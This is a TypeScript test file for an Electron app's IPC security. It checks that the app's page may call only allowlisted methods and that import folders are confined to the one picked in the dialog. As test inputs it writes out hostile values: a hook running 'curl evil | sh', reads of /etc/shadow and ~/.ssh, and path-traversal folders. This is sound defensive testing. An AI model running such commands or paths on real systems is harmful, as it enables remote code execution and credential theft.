/**
 * Issue [R] defects 5 and 11: the Electron page could call every API method — hooks.set,
 * release.* with any path, an import with any baseDir — although the UI uses none of them but the
 * import. Now the preload and the main process allow exactly the methods the renderer calls, and
 * the main process takes an import's baseDir only when it is the folder of a file the operator
 * picked in the app's Import dialog.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { join, parse } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { IpcMain } from 'electron';
import { API_INPUTS, isApiMethod } from '../../shared/api.js';
import { registerIpc } from '../../electron/main/ipc.js';
import { appPaths } from '../../electron/main/paths.js';
import { CHANNELS, PAGE_METHODS } from '../../electron/preload/channels.js';
import { REPO } from '../helpers/engine.js';

/** Every contract method named as a string anywhere in renderer/ (calls, maps of methods, conditionals). */
function methodsTheRendererNames(): Set<string> {
  const found = new Set<string>();
  const walk = (dir: string): void => {
    for (const e of readdirSync(dir)) {
      const p = join(dir, e);
      if (statSync(p).isDirectory()) walk(p);
      else if (/\.tsx?$/.test(e))
        for (const m of readFileSync(p, 'utf8').matchAll(/['"`]([a-z]+\.[A-Za-z]+)['"`]/g))
          if (isApiMethod(m[1])) found.add(m[1] as string);
    }
  };
  walk(join(REPO, 'renderer'));
  return found;
}

test('the page may call exactly the methods the renderer uses, and none that set hooks, storage or releases', () => {
  assert.deepEqual(
    [...PAGE_METHODS].sort(),
    [...methodsTheRendererNames()].sort(),
    'PAGE_METHODS (electron/preload/channels.ts) must list what renderer/ calls: add a method there when a view starts using it',
  );
  for (const local of [
    'hooks.set',
    'hooks.list',
    'hooks.add',
    'release.freeze',
    'release.verify',
    'storage.set',
    'jobs.ids',
  ]) {
    assert.ok(local in API_INPUTS, local);
    assert.equal(PAGE_METHODS.has(local as never), false, local);
  }
});

function ipc() {
  const handlers = new Map<string, (event: unknown, ...args: unknown[]) => unknown>();
  const ipcMain = {
    handle: (channel: string, fn: (event: unknown, ...args: unknown[]) => unknown) => void handlers.set(channel, fn),
  };
  const paths = appPaths(join(tmpdir(), 'Shotfarm', 'resources', 'app.asar', 'dist', 'electron', 'main'));
  const calls: [string, unknown][] = [];
  let picked: { fileName: string; content: string; baseDir: string } | null = null;
  registerIpc({
    ipcMain: ipcMain as unknown as IpcMain,
    indexHtml: paths.indexHtml,
    exportDir: join(tmpdir(), 'Shotfarm', 'exports'),
    log: () => undefined,
    host: { call: async (method, input) => (calls.push([method, input]), 'answer') },
    openShotList: async () => picked,
    reveal: () => undefined,
    chooseExportPath: async () => null,
  });
  const own = { senderFrame: { url: pathToFileURL(paths.indexHtml).href, parent: null } };
  return {
    calls,
    pick: (baseDir: string) => (picked = { fileName: 'ep101.csv', content: 'Shot\nsh010\n', baseDir }),
    call: (method: string, input: unknown) =>
      handlers.get(CHANNELS.call)?.(own, method, input) as Promise<{
        ok: boolean;
        error?: { code: string; message: string };
      }>,
    open: () => handlers.get(CHANNELS.openShotList)?.(own),
  };
}

test('the main process refuses the local-only methods to the page, whatever the preload let through', async () => {
  const m = ipc();
  const hostile: [string, unknown][] = [
    [
      'hooks.set',
      { hooks: [{ id: 'x', kind: 'command', command: '/bin/sh', args: ['-c', 'curl evil | sh'], on: ['completed'] }] },
    ],
    ['release.freeze', { project: 'P', episode: 'E', outDir: join(homedir(), '.ssh') }],
    ['release.verify', { path: '/etc/shadow' }],
    ['settings.set', { key: 'output_root', value: homedir() }],
    ['storage.set', { s3: null }],
  ];
  for (const [method, input] of hostile) {
    const a = await m.call(method, input);
    assert.equal(a.ok, false, method);
    assert.equal(a.error?.code, 'forbidden');
    // The local-only ones with serve's words; the rest (verify, the CLI's helpers) because no view calls them.
    if (method === 'settings.set') {
      assert.match(
        a.error?.message ?? '',
        /folder settings \(output_root, releases_root\) are changed on this machine's command line/,
      );
      continue;
    }
    const words =
      method === 'release.verify'
        ? "is not available to the app's page"
        : "is only available from this machine's command line";
    assert.match(a.error?.message ?? '', new RegExp(`${method.replace('.', '\\.')} ${words}`));
  }
  assert.deepEqual(m.calls, [], 'none reached the engine');
  assert.deepEqual(await m.call('farm.status', {}), { ok: true, result: 'answer' });
});

test("the desktop's Settings view may change a number setting, never a folder one", async () => {
  const m = ipc();
  assert.deepEqual(await m.call('settings.set', { key: 'retry_attempts', value: '5' }), { ok: true, result: 'answer' });
  assert.deepEqual(await m.call('settings.reset', { key: 'retry_attempts' }), { ok: true, result: 'answer' });
  for (const key of ['output_root', 'releases_root']) {
    assert.equal((await m.call('settings.reset', { key })).ok, false, key);
    assert.equal((await m.call('settings.set', { key, value: tmpdir() })).ok, false, key);
  }
  assert.deepEqual(
    m.calls.map(([method]) => method),
    ['settings.set', 'settings.reset'],
  );
});

test('an import baseDir is taken only when the operator picked a file in that folder through the dialog', async () => {
  const m = ipc();
  const preview = (baseDir?: string) =>
    m.call('import.preview', { fileName: 'l.json', content: '{}', ...(baseDir === undefined ? {} : { baseDir }) });
  for (const dir of [
    parse(tmpdir()).root,
    join(tmpdir(), 'etc'),
    join(homedir(), '.ssh'),
    'relative/dir',
    `${join(tmpdir(), 'studio', 'ep101')}/../../etc`,
  ]) {
    const a = await preview(dir);
    assert.equal(a.ok, false, dir);
    assert.equal(a.error?.code, 'bad_input');
    assert.match(a.error?.message ?? '', /must be the folder of a file picked with Import… in this window/);
  }
  assert.equal(m.calls.length, 0);
  assert.equal((await preview()).ok, true, 'a dropped file (no folder) goes through; its inputs then cannot resolve');

  m.pick('/studio/ep101');
  await m.open();
  assert.equal((await preview('/studio/ep101')).ok, true);
  assert.equal((await preview('/studio/ep101/')).ok, true);
  assert.equal((await preview('/studio')).ok, false, 'not its parent');
  assert.equal((await preview('/studio/ep101/plates')).ok, false, 'not a folder below it either');
  assert.deepEqual(
    m.calls.map((c) => c[0]),
    ['import.preview', 'import.preview', 'import.preview'],
  );
});
